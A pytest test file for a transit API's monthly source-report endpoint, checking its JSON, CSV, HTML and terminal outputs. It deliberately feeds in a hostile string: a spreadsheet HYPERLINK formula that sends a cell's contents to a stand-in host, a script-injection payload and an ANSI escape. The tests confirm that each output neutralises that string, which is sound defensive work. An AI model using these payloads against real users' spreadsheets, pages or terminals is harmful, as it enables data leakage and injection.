"""`/v1/sources/{id}/report`: figures of a month, in each form, safe whatever a feed says."""

import csv
import io
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from datetime import date
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from api.app import make_app
from api.keys import DEFECTS
from api.ports import History, Ports
from api.reports.query import month_of
from api.reports.render import Subject, render_report
from api.reports.table import to_text
from api.served import Import, SourceState
from maas.errors import RecordsUnavailable
from maas.model import SourceId
from maas.records import Outage, RejectionCount, SourceHour
from maas.report import Finding, Report, Severity
from tests.api.world import PORTO, FakePlanner, holder, now
from tests.itineraries import NINE

RT = SourceId("rt")
SEVEN = NINE // 3600 * 3600 - 7200
EVIL = '=HYPERLINK("http://evil.example?"&A1,"x")<script>alert(1)</script>\x1b[2J'
HOURS = (
    SourceHour(
        RT, SEVEN, (3000.0, 500.0, *[0.0] * 13), 100.0, tries=180, messages=170,
        trips=1000, matched=900, failures={EVIL: 3},
        rejections=(RejectionCount("E003", "WARNING", 170, 340, EVIL),),
    ),
    SourceHour(RT, SEVEN + 3600, (*[0.0] * 14, 3600.0)),
)  # fmt: skip
OUTAGES = (Outage(RT, SEVEN - 40 * 86_400, SEVEN), Outage(RT, SEVEN + 3600, SEVEN + 7200))
REPORT = Report(
    SourceId("bus"), "gtfs", {},
    (Finding("missing_stop_name", Severity.WARNING, "stops.txt", 7, 2, EVIL),),
    date(2023, 9, 1), date(2023, 9, 18),
)  # fmt: skip
LIVE = SourceState("rt", "gtfs-rt", "CC0", is_live=True, ids_of=("bus",))
STATIC = SourceState("bus", "gtfs", attribution=EVIL, imported=Import(NINE - 9000, REPORT))

Client = TestClient[web.Request, web.Application]


@dataclass(frozen=True)
class Known:
    """What the records say, or that they can't be read."""

    is_lost: bool = False

    async def find(
        self, source_id: SourceId, since: int, until: int
    ) -> tuple[Sequence[SourceHour], Sequence[Outage]]:
        if self.is_lost:
            raise RecordsUnavailable("the disk is gone")
        return [hour for hour in HOURS if since <= hour.hour < until], OUTAGES


def application(history: History) -> web.Application:
    return make_app(holder(FakePlanner(), LIVE, STATIC), now, ports=Ports(history=history))


@pytest.fixture
async def client() -> AsyncIterator[Client]:
    app = application(Known())
    async with TestClient(TestServer(app)) as client:
        yield client
        assert app[DEFECTS].count == 0


async def asked(client: Client, more: str = "", source: str = "rt") -> Any:
    return await (await client.get(f"/v1/sources/{source}/report{more}")).json()


async def test_a_live_source_has_hours_ages_and_what_fitted(client: Client) -> None:
    body = await asked(client)
    assert (body["month"], body["from"]) == ("2023-09", "2023-08-31T23:00:00Z")
    assert body["to"] == "2023-09-20T07:00:00Z"
    live = body["live"]
    assert live["hours"] == {"observed": 2.0, "fresh": 0.97, "stale": 0.0, "lost": 1.03}
    assert (live["ageP50"], live["ageP95"], live["freshShare"]) == (1800.0, 1800.0, 0.4861)
    assert (live["matchRate"], live["matchedTrips"], live["liveTrips"]) == (0.9, 900, 1000)
    assert live["failures"] == [{"reason": EVIL, "count": 3}]
    assert live["rejections"][0]["records"] == 340
    assert [day["day"] for day in live["days"]] == ["2023-09-20"]


async def test_outages_are_cut_to_the_month(client: Client) -> None:
    outages = (await asked(client))["live"]["outages"]
    assert [(each["from"], each["to"], each["minutes"]) for each in outages] == [
        ("2023-08-31T23:00:00Z", "2023-09-20T05:00:00Z", 27720.0),
        ("2023-09-20T06:00:00Z", "2023-09-20T07:00:00Z", 60.0),
    ]


async def test_the_timetable_it_speaks_of_is_in_it_with_what_is_left(client: Client) -> None:
    [timetable] = (await asked(client))["timetables"]
    assert (timetable["id"], timetable["lastDay"], timetable["daysToExpiry"]) == (
        "bus", "2023-09-18", -2,
    )  # fmt: skip


async def test_a_static_source_is_reported_without_hours(client: Client) -> None:
    body = await asked(client, source="bus")
    assert "live" not in body
    assert body["timetables"][0]["rejections"][0]["line"] == 7


async def test_a_month_without_hours_says_so(client: Client) -> None:
    live = (await asked(client, "?month=2023-02"))["live"]
    assert live["hours"]["observed"] == 0
    assert {"ageP50", "matchRate", "freshShare"} & live.keys() == set()


@pytest.mark.parametrize(
    "month", ["2023-10", "2023-13", "2023-00", "2023-9", "2023", "2023-09-01", "٢٠٢٣-٠٩", ""]
)
async def test_what_is_no_month_is_told(client: Client, month: str) -> None:
    reply = await client.get("/v1/sources/rt/report", params={"month": month})
    body = await reply.json()
    assert (reply.status, body["parameter"]) == (400, "month")


async def test_records_out_of_reach_are_told() -> None:
    async with TestClient(TestServer(application(Known(is_lost=True)))) as client:
        reply = await client.get("/v1/sources/rt/report")
        assert (reply.status, (await reply.json())["code"]) == (503, "RECORDS_UNAVAILABLE")


async def test_an_unknown_source_is_not_found(client: Client) -> None:
    assert (await client.get("/v1/sources/x/report")).status == 404


@pytest.mark.parametrize(
    ("query", "accept", "kind"),
    [
        ("", "", "application/json"),
        ("", "*/*", "application/json"),
        ("", "text/csv", "text/csv"),
        ("", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "text/html"),
        ("?format=csv", "text/html", "text/csv"),
        ("?format=html", "", "text/html"),
        ("?format=json", "text/html", "application/json"),
    ],
)
async def test_a_form_is_asked_for_by_name_or_by_header(
    client: Client, query: str, accept: str, kind: str
) -> None:
    headers = {"Accept": accept} if accept else {}
    reply = await client.get(f"/v1/sources/rt/report{query}", headers=headers)
    assert (reply.status, reply.content_type) == (200, kind)


async def table(client: Client, source: str) -> list[list[str]]:
    reply = await client.get(f"/v1/sources/{source}/report?format=csv")
    assert f'filename="{source}-2023-09.csv"' in reply.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(await reply.text())))


@pytest.mark.parametrize("source", ["rt", "bus"])
async def test_no_cell_is_a_formula_or_moves_a_cursor(client: Client, source: str) -> None:
    rows = await table(client, source)
    assert all(len(row) == 5 for row in rows)
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert [cell for cell in cells if cell.startswith("-")] == ["-2"]
    assert not any("\x1b" in cell for cell in cells)


async def test_the_table_says_what_the_json_says(client: Client) -> None:
    rows = {(row[0], row[1]): row[2:] for row in await table(client, "rt")}
    assert rows["hours", "fresh"] == ["0.97", "h", ""]
    assert rows["trips", "match rate"] == ["0.9", "", ""]
    assert rows["timetable bus", "days to expiry"] == ["-2", "d", ""]
    assert rows["outages", "2023-09-20T06:00:00Z"] == ["60.0", "min", "until 2023-09-20T07:00:00Z"]


@pytest.mark.parametrize(("language", "word"), [("en", "Day by day"), ("fr", "Jour par jour")])
async def test_the_page_is_escaped_and_allows_nothing(
    client: Client, language: str, word: str
) -> None:
    headers = {"Accept": "text/html", "Accept-Language": language}
    reply = await client.get("/v1/sources/rt/report", headers=headers)
    text = await reply.text()
    assert "<script" not in text and "\x1b" not in text
    assert "&lt;script&gt;" in text
    assert word in text and f'lang="{language}"' in text
    assert reply.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "@media print" in text


async def test_the_terminal_is_told_the_same_and_its_cursor_left_alone(client: Client) -> None:
    subject = Subject(LIVE, (LIVE, STATIC), "porto", PORTO.zone, NINE)
    month = month_of("2023-09", PORTO.zone, NINE)
    text = to_text(render_report(subject, month, HOURS, OUTAGES))
    assert "\x1b" not in text
    assert text.startswith("rt, 2023-09\n\nsource\n")
    assert "days to expiry" in text
